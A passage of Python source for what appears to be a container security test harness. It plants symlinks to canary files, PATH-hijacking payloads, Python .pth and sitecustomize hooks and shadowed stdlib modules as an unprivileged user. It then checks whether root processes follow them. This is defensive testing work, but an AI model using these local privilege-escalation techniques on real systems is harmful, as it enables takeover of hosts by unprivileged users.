                mounts.append(f"{hook_dir}/{AUDIT_MODULE}.py:{d}/{AUDIT_MODULE}.py:ro")
                mounts.append(f"{hook_dir}/zz_ptmg_audit.pth:{d}/zz_ptmg_audit.pth:ro")
        if not mounts:
            self.result.notes.append("no system python site dir found: no audit recon (targets from scans only)")
        return mounts

    def run(self, name: str, env: dict[str, str], image: str | None = None, root_mode: bool = False,
            extra: dict[str, Any] | None = None) -> Box:
        hc = self.config.get("Healthcheck") or {}
        kwargs: dict[str, Any] = dict(extra or {})
        if hc.get("Test"):
            kwargs["healthcheck"] = {"test": hc["Test"], "interval": HEALTH_INTERVAL_S * NS,
                                     "timeout": 10 * NS, "retries": 3, "start_period": 60 * NS}
        if root_mode:
            kwargs.update(ROOT_MODE)
            env = {**env, **ROOT_MODE_ENV}
        c = self.client.containers.run(
            image or self.image, detach=True, labels=self.labels, name=f"ptmg-attack-{self.session}-{name}",
            environment=env, ports={"22/tcp": ("127.0.0.1", None), "8888/tcp": ("127.0.0.1", None)},
            volumes=self.mounts, **kwargs)
        box = Box(c, name, root_mode or kwargs.get("user") == "0")
        self.boxes.append(box)
        return box

    def remove(self, box: Box) -> None:
        box.c.remove(force=True, v=True)
        self.boxes.remove(box)

    def base_env(self) -> dict[str, str]:
        return {"JUPYTER_TOKEN": TOKEN, "JUPYTER_PASSWORD_HASH": FAKE_HASH, "TENSORBOARD": "on",
                "SSH_AUTHORIZED_KEYS": self.pubkey}

    def pick_tool_python(self, box: Box) -> None:
        for py in TOOL_PYTHONS:
            if box.exec(["/bin/sh", "-c", f"[ -x {py} ]"], user="0", env=SAFE_ENV, workdir="/")[0] == 0:
                box.tool_python = py
                return
        raise HarnessError("no python in the image to run the harness with")

    def state(self, box: Box) -> dict[str, Any] | None:
        result = box.tool("state", {"files": STATE_FILES})
        return dict(result) if isinstance(result, dict) else None

    def wait_ready(self, box: Box, timeout: float = START_TIMEOUT, need_health: bool = True,
                   fatal: bool = True) -> None:
        """Services up (and healthy). Not `fatal`: a container that pt's plantings keep from getting
        healthy (a denial of service, not a way to root) is noted, and the attack goes on."""
        if not fatal:
            try:
                self.wait_ready(box, min(timeout, 150), need_health)
            except (WaitTimeout, HarnessError) as exc:
                if box.status() in ("exited", "dead"):
                    raise
                self.result.notes.append(f"[{box.name}] never got ready ({str(exc)[:200]}); log tail: "
                                         f"{box.logs()[-600:]!r}")
            return

        def ready() -> str | None:
            if box.status() in ("exited", "dead"):
                return "exited"
            st = self.state(box)
            if not st:
                return None
            services = st.get("services") or {}
            if any(s.get("check") in ("pending", "failed") or not s.get("pid") for s in services.values()):
                return None
            if need_health and box.health() != "healthy":
                return None
            return "ready"
        if wait_until(ready, timeout, interval=2, what=f"{box.name}: services up and healthy") == "exited":
            raise HarnessError(f"[{box.name}] container exited:\n{box.logs()[-4000:]}")
        if need_health:  # "healthy" lags a restart: also one passing healthcheck run from now on
            self.wait_health_runs(box, runs=1, passing=True, timeout=timeout)

    def wait_health_runs(self, box: Box, runs: int = HEALTH_RUNS, timeout: float = 120,
                         passing: bool = False) -> None:
        seen = {e["Start"] for e in box.health_log()}
        new: set[str] = set()

        def enough() -> bool:
            for e in box.health_log():
                if e["Start"] not in seen and (e.get("ExitCode") == 0 or not passing):
                    new.add(e["Start"])
            return len(new) >= runs
        wait_until(enough, timeout, interval=1, what=f"{box.name}: {runs} healthcheck runs")

    # --------------------------------------------------------------------- recon
    def audit(self, box: Box) -> list[dict[str, Any]]:
        text = box.tool("read", {"path": AUDIT_LOG})
        recs = []
        for line in (text or "").splitlines():
            try:
                rec = json.loads(line)
            except ValueError:
                continue
            rec["container"] = box.name
            recs.append(rec)
        return recs

    def add_audit(self, box: Box) -> None:
        self.result.audit += [x for x in self.audit(box) if x not in self.result.audit]

    def discover(self, box: Box) -> dict[str, Any]:
        """Every PATH and sys.path a root process in `box` uses or could use, and which
        of their directories pt can write."""
        d: dict[str, Any] = {}
        procs = box.tool("root-procs")
        root_procs = {pid: p for pid, p in procs.items()
                      if "0" in p["uids"] and "PTMG_ATTACK_HARNESS" not in p["env_keys"]}
        d["root_processes"] = root_procs
        paths: dict[str, set[str]] = {}

        def add(path: str | None, source: str) -> None:
            if path:
                paths.setdefault(path, set()).add(source)

        for pid, p in root_procs.items():
            add(p["PATH"], f"/proc/{pid}/environ ({p['cmdline'][:60]})")
        add(dict(e.split("=", 1) for e in self.config.get("Env") or []).get("PATH"), "image Config.Env")
        box.c.reload()
        add(dict(e.split("=", 1) for e in box.c.attrs["Config"].get("Env") or []).get("PATH"), "container Config.Env")
        # `docker exec` without -u (and the healthcheck: same semantics), before anything is planted.
        _, out, _ = box.exec(["/usr/bin/env"])
        exec_env = dict(line.split("=", 1) for line in out.splitlines() if "=" in line)
        who = box.exec(["/usr/bin/id"])[1].strip()
        self.result.exec_users[box.name] = who
        d.setdefault("docker_exec_default", {})[box.name] = {
            "user": who, "cwd": box.exec(["/bin/pwd"])[1].strip(),
            "env": {k: v for k, v in exec_env.items() if k not in ("SSH_AUTHORIZED_KEYS", "JUPYTER_TOKEN")},
            "secrets_in_env": sorted(k for k in exec_env
                                     if k in ("SSH_AUTHORIZED_KEYS", "JUPYTER_TOKEN", "JUPYTER_PASSWORD_HASH"))}
        add(exec_env.get("PATH"), "docker exec default env")
        for shell in ("/bin/bash", "/bin/sh"):  # login shells of docker exec's user, and of root
            for user in (None, "0"):
                code, out, _ = box.exec([shell, "-lc", 'echo "$PATH"'], user=user)
                if code == 0 and out.strip():
                    add(out.strip().splitlines()[-1], f"`{shell} -l` as {user or 'docker exec default'}")
        _, out, _ = box.exec(["/bin/cat", "/etc/login.defs"], user="0", env=SAFE_ENV)
        for line in out.splitlines():
            parts = line.split()
            if len(parts) == 2 and parts[0] in ("ENV_SUPATH", "ENV_PATH"):
                add(parts[1].split("=", 1)[-1], f"/etc/login.defs {parts[0]}")
        for rec in self.result.audit:
            if rec.get("PATH"):
                add(rec["PATH"], f"audit {rec['event']} {rec.get('prog')}")
        d["root_PATHs"] = {k: sorted(v) for k, v in paths.items()}
        cwds = {"/", self.config.get("WorkingDir") or "/", "/root", contract.WORKDIR}
        cwds |= {p["cwd"] for p in root_procs.values()}
        d["root_cwds"] = sorted(cwds)
        dirs: list[str] = []
        for path in paths:
            for entry in path.split(":"):
                targets = sorted(cwds) if entry in ("", ".") else (
                    [os.path.join(c, entry) for c in sorted(cwds)] if not entry.startswith("/") else [entry])
                dirs += [os.path.normpath(t) for t in targets if os.path.normpath(t) not in dirs]
        d["path_dirs"] = dirs
        d["path_dirs_pt"] = box.as_pt("dirs-writable", {"dirs": dirs})
        names = box.tool("bins", {"dirs": list(SYSTEM_BIN_DIRS)})
        d["system_names"] = len(names)
        d["names"] = sorted(set(names) | set(EXTRA_NAMES))
        all_bins = box.tool("bins", {"dirs": sorted(set(dirs) | set(SYSTEM_BIN_DIRS))})
        pythons = [os.path.join(bdir, n) for bdir in sorted(set(dirs) | set(SYSTEM_BIN_DIRS))
                   for n in all_bins if n.startswith("python") and not n.endswith("-config")]
        pyinfo = box.as_pt("pythons", {"pythons": pythons, "cwds": sorted(cwds | {contract.HOME}),
                                       "ours": ATTACK_DIR + "/"})
        d["pythons"] = pyinfo
        sys_dirs: list[str] = []
        for info in pyinfo.values():
            for p in [*info.get("path", []), *info.get("site", []), info.get("usersite")]:
                if isinstance(p, str) and p and p not in sys_dirs:
                    sys_dirs.append(p)
        d["sys_path_dirs"] = sys_dirs
        d["sys_path_dirs_pt"] = box.as_pt("dirs-writable", {"dirs": sys_dirs})
        return d

    # -------------------------------------------------------------- targets/plant
    def targets(self, box: Box) -> tuple[dict[str, dict[str, Any]], dict[str, dict[str, Any]]]:
        """(write targets, read-only targets): path -> where pt can plant for it."""
        writes: set[str] = set()
        reads: set[str] = set()
        for rec in self.result.audit:
            for key in ("path", "path2"):
                p = rec.get(key)
                if not isinstance(p, str) or not p.startswith("/"):
                    continue
                flags = rec.get("flags")
                if rec["event"] == "open" and isinstance(flags, int) and flags & os.O_CREAT and flags & os.O_EXCL:
                    continue  # create-exclusive (tempfile): a planted link makes it fail, never followed
                if rec["event"] == "open" and not rec.get("write"):
                    reads.add(p)
                elif rec["event"] in ("open", "os.chown", "os.chmod", "os.rename", "os.mkdir",
                                      "os.symlink", "os.link", "os.truncate", "os.utime"):
                    writes.add(p)
        writes |= set(box.as_pt("scan-root-owned", {"skip": ["/proc", "/sys", "/dev", CANARY_DIR]}))
        writes = {p for p in writes if ".ptmg-aside-" not in p}  # our own leftovers
        reads -= writes
        wp = box.as_pt("points", {"paths": sorted(writes)})
        rp = box.as_pt("points", {"paths": sorted(reads)})
        read_any = {rec["path"] for rec in self.result.audit
                    if rec["event"] == "open" and not rec.get("write") and isinstance(rec.get("path"), str)}
        for p, v in {**wp, **rp}.items():
            if v["point"] and p in read_any and p not in self.result.root_reads:
                self.result.root_reads.append(p)
        return ({p: v for p, v in wp.items() if v["point"]}, {p: v for p, v in rp.items() if v["point"]})

    def new_canary(self, kind: str) -> dict[str, Any]:
        self.canary_seq += 1
        marker = f"PTMGLEAK{uuid.uuid4().hex[:24].upper()}"
        path = f"{CANARY_DIR}/{kind}-{self.canary_seq}"
        if kind == "read":
            self.markers.append(marker)
            b64 = base64.b64encode(bytes.fromhex("0000000b7373682d6564323535313900000020") +
                                   marker.encode()[:32].ljust(32, b"0")).decode()
            return {"type": "file", "path": path, "mode": 0o600, "content": f"ssh-ed25519 {b64} {marker}\n{marker}\n"}
        content = f"ptmg-attack {kind} canary {self.canary_seq}\n"
        if kind == "dir":
            return {"type": "dir", "path": path, "content": content}
        return {"type": "file", "path": path, "mode": 0o644, "content": content}

    def plant_links(self, box: Box, writes: dict[str, dict[str, Any]], reads: dict[str, dict[str, Any]],
                    seeds: Sequence[tuple[str, str]] = ()) -> list[dict[str, Any]]:
        """Every target becomes a link (at the deepest point pt controls) to a fresh root-owned canary."""
        links: list[dict[str, Any]] = []
        canaries: list[dict[str, Any]] = []

        def want(path: str, info: dict[str, Any], read: bool) -> None:
            point = info["point"]
            if path in self.canaries or point in self.canaries:
                return
            kind = "read" if read else ("dir" if info.get("kind") == "dir" else "write")
            can = self.new_canary(kind)
            canaries.append(can)
            self.canaries[point] = can["path"]
            links.append({"path": path, "point": point, "canary": can["path"]})

        for p, info in writes.items():
            want(p, info, read=False)
        for p, info in reads.items():
            want(p, info, read=True)
        for path, kind in seeds:
            if path in self.canaries:
                continue
            can = self.new_canary(kind)
            canaries.append(can)
            self.canaries[path] = can["path"]
            links.append({"path": path, "point": path, "canary": can["path"]})
        if not links:
            return []
        box.tool("make-canaries", {"dir": CANARY_DIR, "canaries": canaries})
        # The new canaries are root-owned files whose before-state is now.
        self.baseline.update(box.tool("snapshot", {"roots": [], "paths": [
            p for c in canaries for p in ([c["path"], c["path"] + "/canary"] if c["type"] == "dir" else [c["path"]])]}))
        done = list(box.as_pt("plant-links", {"links": links}))
        self.result.planted.setdefault("links", []).extend(done)
        return done

    def plant_payloads(self, box: Box, disc: dict[str, Any]) -> None:
        real_dirs = [d for d in SYSTEM_BIN_DIRS if not disc["path_dirs_pt"].get(d)]
        payload = PAYLOAD_SH.replace("__RECORDS__", RECORDS).replace("__REAL_DIRS__", " ".join(real_dirs))
        box.as_pt("setup-payload", {"log_dir": LOG_DIR, "records": RECORDS,
                                    "files": {PAYLOAD: payload, PYHOOK: PYHOOK_PY.replace("__RECORDS__", RECORDS)}})
        path_dirs = [d for d, w in disc["path_dirs_pt"].items() if w]
        self.result.planted.setdefault("path_dirs", {}).update(box.as_pt(
            "plant-path", {"dirs": path_dirs, "names": disc["names"], "payload": PAYLOAD, "prefix": ORIG_PREFIX}))
        line = (f"exec(open({PYHOOK!r}).read(), {{'NAME': '__NAME__', 'WHERE': __WHERE__}}) "
                f"if __import__('os').path.exists({PYHOOK!r}) else None")
        files = {
            "ptmg_attack.pth": f"import os; {line.replace('__NAME__', '.pth')}  # ptmg-attack\n",
            "sitecustomize.py": f"# ptmg-attack\n{line.replace('__NAME__', 'sitecustomize')}\n",
            "usercustomize.py": f"# ptmg-attack\n{line.replace('__NAME__', 'usercustomize')}\n",
        }
        py_dirs = [d for d, w in disc["sys_path_dirs_pt"].items() if w]
        self.result.planted.setdefault("python_dirs", {}).update(
            box.as_pt("plant-python", {"dirs": py_dirs, "files": files}))
        # Dirs that come before the stdlib on sys.path: a python's cwd ('' for -c/-m) and a
        # script's own dir (every PATH dir holds scripts). Shadow every stdlib module there
        # that an interpreter has not imported at startup.
        site_like = {os.path.normpath(p) for info in disc["pythons"].values()
                     for p in [*info.get("site", []), info.get("usersite") or ""] if p}
        shadow_dirs = sorted({os.path.normpath(d) for d in py_dirs if os.path.normpath(d) not in site_like}
                             | set(path_dirs))
        if shadow_dirs:
            names = box.as_pt("stdlib-names", {"pythons": sorted({k.split(" ")[0] for k in disc["pythons"]})})
            self.result.planted.setdefault("shadow_dirs", {}).update(box.as_pt(
                "plant-shadows", {"dirs": shadow_dirs, "names": names, "code": SHADOW_PY.replace("__PYHOOK__", PYHOOK)}))
        # Self-test of the payloads (as pt, marked as harness): each planted PATH dir's
        # `true`, and every python, must leave a record and still work.
        for d in path_dirs:
            self.result.selftest[f"[{box.name}] exec {d}/true"] = box.exec(
                [f"{d}/true"], user=contract.USER, env=SAFE_ENV, workdir="/")[0]
        for key in disc["pythons"]:
            py = key.split(" ")[0]
            if key.endswith(" @/") and " -" not in key:
                self.result.selftest[f"[{box.name}] {py} -c pass"] = box.exec(
                    [py, "-c", "pass"], user=contract.USER, env=SAFE_ENV, workdir="/")[0]

    def plant_everything(self, box: Box, seeds: Sequence[tuple[str, str]] = ()) -> None:
        disc = self.discover(box)
        self.result.discovery[box.name] = disc
        self.plant_links(box, *self.targets(box), seeds)
        self.plant_payloads(box, disc)
        self.result.steps.append(f"[{box.name}] planted: {len(self.result.planted.get('links', []))} links so far, "
                                 f"PATH dirs {[d for d, w in disc['path_dirs_pt'].items() if w]}, "
                                 f"python dirs {[d for d, w in disc['sys_path_dirs_pt'].items() if w]}")

    # ----------------------------------------------------------------- drive
    def kill_services_as_pt(self, box: Box) -> None:
        services = (self.state(box) or {}).get("services") or {}
        before = {n: s.get("restarts", 0) for n, s in services.items()}
        pids = {n: s["pid"] for n, s in services.items() if s.get("pid")}
        res = box.as_pt("kill", {"pids": list(pids.values()), "sig": 9})
        killed = [n for n, pid in pids.items() if res.get(str(pid)) == "signalled"]
        spared = {n: res.get(str(pids[n])) for n in pids if n not in killed}
        self.result.steps.append(f"[{box.name}] pt killed {killed} (could not: {spared})")

        def restarted() -> bool:
            s2 = (self.state(box) or {}).get("services") or {}
            return all(s2[n].get("restarts", 0) > before[n] and s2[n].get("pid") for n in killed)
        wait_until(restarted, 120, interval=1, what=f"{box.name}: supervisor restarts {killed}")
        self.wait_ready(box, fatal=box.name == "A")

    def docker_exec_as_default(self, box: Box) -> None:
        """What an operator types: `docker exec CONTAINER cmd`, no -u, the container's env and workdir."""
        cmds = [["python", "-c", "pass"], ["python3", "-c", "import json, csv, argparse"], ["bash", "-lc", "true"],
                ["sh", "-lc", "true"], ["bash", "-c", "true"], ["pip", "--version"], ["cat", "/etc/hostname"],
                ["env"], ["id"], [contract.HEALTHCHECK]]
        codes: dict[str, Any] = {}
        for cmd in cmds:
            code, out, err = box.exec(cmd)
            codes[" ".join(cmd)] = code if code == 0 else f"{code}: {(out + err).strip()[-120:]}"
        self.result.steps.append(f"[{box.name}] docker exec (no -u): {codes}")

    def ssh_login(self, box: Box) -> None:
        sshd = ((self.state(box) or {}).get("services") or {}).get("sshd") or {}
        if not sshd.get("pid"):
            self.result.notes.append(f"[{box.name}] no sshd running (see its log): SSH logins not driven")
            return
        port = box.host_port("22/tcp")
        outs = {}
        for command in ("true", "bash -lc true", "python -c pass"):
            r = subprocess.run(["ssh", "-i", str(self.key_path), "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes",
                                "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                                "-o", "ConnectTimeout=15", "-o", "LogLevel=ERROR", "-p", str(port),
                                f"{contract.USER}@127.0.0.1", command], capture_output=True, text=True, timeout=90,
                               check=False)
            outs[command] = r.returncode
        if outs.get("true") != 0:
            raise HarnessError(f"[{box.name}] ssh login as pt failed: {outs}")
        self.result.steps.append(f"[{box.name}] ssh as pt: {outs}")

    def jupyter_ok(self, box: Box) -> None:
        req = urllib.request.Request(f"http://127.0.0.1:{box.host_port('8888/tcp')}/api/status",
                                     headers={"Authorization": f"token {TOKEN}"})
        code: int | str
        try:
            with urllib.request.urlopen(req, timeout=10) as resp:
                code = resp.status
        except urllib.error.HTTPError as exc:
            code = exc.code
        except OSError as exc:  # no Jupyter in this container (see its log)
            code = f"no answer ({exc})"
        self.result.steps.append(f"[{box.name}] Jupyter /api/status with token: {code}")

    def signal_root(self, box: Box) -> None:
        procs = box.tool("root-procs")
        pids = [pid for pid, p in procs.items() if "0" in p["uids"] and "PTMG_ATTACK_HARNESS" not in p["env_keys"]]
        for pid, outcome in box.as_pt("kill", {"pids": pids, "sig": 0}).items():
            if outcome == "signalled":
                self.result.signalled_root[f"[{box.name}] {pid}"] = procs[pid]["cmdline"][:80]
            elif outcome.startswith("signalled"):
                self.result.notes.append(f"[{box.name}] pid {pid} ({procs[pid]['cmdline'][:60]}): {outcome}")
        self.result.steps.append(f"[{box.name}] pt kill -0 on {len(pids)} root pids")

    def restart(self, box: Box, fatal: bool = True) -> None:
        box.c.restart(timeout=20)
        self.result.steps.append(f"[{box.name}] docker restart")
        self.wait_ready(box, fatal=fatal)
        self.wait_health_runs(box)

    def drive(self, box: Box) -> None:
        """Every path on which root may act in a running container."""
        self.signal_root(box)
        self.kill_services_as_pt(box)
        self.wait_health_runs(box)
        self.docker_exec_as_default(box)
        self.ssh_login(box)
        self.jupyter_ok(box)

    # ----------------------------------------------------------------- verdict
    def compare(self, box: Box, before: dict[str, Any], after: dict[str, Any]) -> None:
        for path, b in before.items():
            if b is None or b[1] != 0:
                continue
            a = after.get(path)
            if a is None:
                a = box.tool("snapshot", {"roots": [], "paths": [path]}).get(path)
            whats = []
            if a is None:
                whats.append("removed")
            elif a[0] != b[0]:
                whats.append("type")
            else:
                if (a[1], a[2]) != (b[1], b[2]):
                    whats.append("owner")
                if a[3] != b[3]:
                    whats.append("mode")
                if a[4] != b[4] and path not in CONTENT_MAY_CHANGE:
                    whats.append("content")
            if whats:
                self.result.file_changes.append({"container": box.name, "path": path, "what": "+".join(whats),
                                                 "before": b[:4], "after": a[:4] if a else None})
        for path in after:
            if path.startswith(CANARY_DIR + "/") and path not in before:
                self.result.new_in_canary_dirs.append(f"[{box.name}] {path}")

    def add_records(self, text: str) -> None:
        have = {(r.host, r.pid, r.name, r.time, r.kind, r.where) for r in self.result.records}
        self.result.records += [r for r in parse_records(text)
                                if (r.host, r.pid, r.name, r.time, r.kind, r.where) not in have]

    def collect(self, box: Box, since: float) -> None:
        self.add_records(box.tool("read", {"path": RECORDS}) or "")
        for path, marker in box.as_pt("find-markers", {"markers": self.markers, "since": since - 5,
                                                       "skip": ["/proc", "/sys", "/dev", CANARY_DIR]}):
            if [path, marker] not in self.result.leaks:
                self.result.leaks.append([path, marker])
        for line in box.logs().splitlines():
            if any(m in line for m in self.markers) and line not in self.result.log_leaks:
                self.result.log_leaks.append(line)

    def collect_stopped(self, box: Box) -> None:
        """The records of a container that is not running (docker cp works on those)."""
        try:
            chunks, _ = box.c.get_archive(RECORDS)
        except docker.errors.NotFound:
            return  # nothing ran
        with tarfile.open(fileobj=io.BytesIO(b"".join(chunks))) as tar:
            member = tar.extractfile(os.path.basename(RECORDS))
            text = member.read().decode(errors="replace") if member else ""
        self.add_records(text)

    def snapshot(self, box: Box) -> dict[str, Any]:
        return dict(box.tool("snapshot", {"roots": list(SNAPSHOT_ROOTS)}))

    def commit(self, box: Box) -> str:
        labels = " ".join(f"{k}={v}" for k, v in self.labels.items())
        img = box.c.commit(repository="ptmg-attack", tag=self.session, changes=f"LABEL {labels}")
        self.images.append(img.id)
        return str(img.id)

    # ------------------------------------------------------------------ scenario
    def execute(self) -> Result:
        self.mounts = self._audit_mounts()
        env = self.base_env()
        remap = {**env, contract.ENV_PT_UID: REMAP_ID, contract.ENV_PT_GID: REMAP_ID}
        # Recon: a plain start (A) and a root-mode start with a uid remap (R), audited, in parallel.
        a = self.run("A", env)
        r = self.run("R-recon", remap, root_mode=True)
        for box in (a, r):
            self.pick_tool_python(box)
        self.wait_ready(a)
        self.wait_ready(r, need_health=False)
        self.add_audit(a)
        self.add_audit(r)
        self.result.discovery["R-recon"] = self.discover(r)
        self.remove(r)
        self.result.steps.append("recon: A started, R started as root with PT_UID/PT_GID=4242 (audited, removed)")

        # A: plant as pt, then drive every path.
        home, work = contract.HOME, contract.WORKDIR
        seeds = [(f"{home}/ptmg-seed-file", "write"), (f"{home}/ptmg-seed-dir", "dir"),
                 (f"{work}/ptmg-seed-file", "write"), (f"{work}/ptmg-seed-dir", "dir"),
                 (f"{contract.STATE_DIR}/ptmg-seed-file", "write")]
        plantable = a.as_pt("points", {"paths": [p for p, _ in seeds]})
        seeds = [(p, kind) for p, kind in seeds if plantable[p]["point"] == p]  # where pt can put a link
        self.baseline = self.snapshot(a)
        self.plant_everything(a, seeds)
        self.result.hardlinks = a.as_pt("hardlink", {"pairs": [
            [c, f"{home}/ptmg-hardlink-{i}"]
            for i, c in enumerate(sorted(c for c in set(self.canaries.values()) if "/write-" in c)[:2])]})
        t0 = float(a.tool("now"))
        self.drive(a)
        self.add_audit(a)
        self.plant_links(a, *self.targets(a))  # whatever root touched since becomes a target too
        self.restart(a)
        self.ssh_login(a)
        self.jupyter_ok(a)
        self.signal_root(a)
        self.add_audit(a)
        self.plant_links(a, *self.targets(a))
        after_a = self.snapshot(a)
        self.compare(a, self.baseline, after_a)
        self.collect(a, t0)

        # B: A as pt left it, started as root with the remap; planted again (root's PATHs
        # there), driven, restarted (the remap's root part runs again over pt's links).
        planted = self.commit(a)
        b = self.run("B-remap", remap, image=planted, root_mode=True)
        self.pick_tool_python(b)
        self.result.steps.append("[B] A's commit started as root with PT_UID/PT_GID=4242")
        self.wait_ready(b, fatal=False)
        self.add_audit(b)
        self.plant_everything(b)
        self.drive(b)
        self.add_audit(b)
        self.plant_links(b, *self.targets(b))
        self.restart(b, fatal=False)
        self.docker_exec_as_default(b)
        self.ssh_login(b)
        self.signal_root(b)
        self.add_audit(b)
        pristine = {k: v for k, v in self.baseline.items() if k.startswith(CANARY_DIR + "/")}  # incl. B's new ones
        self.compare(b, {**after_a, **pristine}, self.snapshot(b))  # canaries against their pristine state
        self.collect(b, t0)

        # U: root without the documented PATH/working directory. Refusing is a pass; running
        # is attacked like the others.
        u = self.run("U-root-image-env", remap, image=planted, extra={"user": "0"})
        # (Its state file is no sign of life: A's is in the commit. Its own log is.)
        state = wait_until(lambda: "exited" if u.status() in ("exited", "dead") else
                           ("ready" if "ready: " in u.logs() else None), START_TIMEOUT, interval=2,
                           what="U: refusal or start")
        if state == "exited":
            u.c.reload()
            code = u.c.attrs["State"]["ExitCode"]
            last = [line for line in u.logs().splitlines() if line.strip()][-1:] or [""]
            self.result.refused[u.name] = f"exit {code}: {last[0][:300]}"
            self.result.steps.append(f"[U] refused to start as root with the image's PATH/WORKDIR (exit {code})")
            self.collect_stopped(u)
        else:
            self.pick_tool_python(u)
            self.wait_ready(u)
            self.docker_exec_as_default(u)
            self.wait_health_runs(u)
            self.collect(u, t0)
        return self.result

    def cleanup(self) -> None:
        for c in self.client.containers.list(all=True, filters={"label": f"ptmg-attack-session={self.session}"}):
            with contextlib.suppress(docker.errors.APIError):
                c.remove(force=True, v=True)
        for image_id in self.images:
            with contextlib.suppress(docker.errors.APIError):
                self.client.images.remove(image_id, force=True)


def run_attack(client: Any, image: str, workdir: Path, labels: dict[str, str],
               log: Callable[[str], None]) -> Result:
    """Run the whole scenario; on a harness failure print the containers' logs; always clean up."""
    att = Attack(client, image, workdir, labels)
    try:
        return att.execute()
    except Exception:
        for box in att.boxes:
            with contextlib.suppress(docker.errors.APIError):
                log(f"---- logs of {box.name} (tail)\n{box.logs()[-3000:]}")
        raise
    finally:
        att.cleanup()
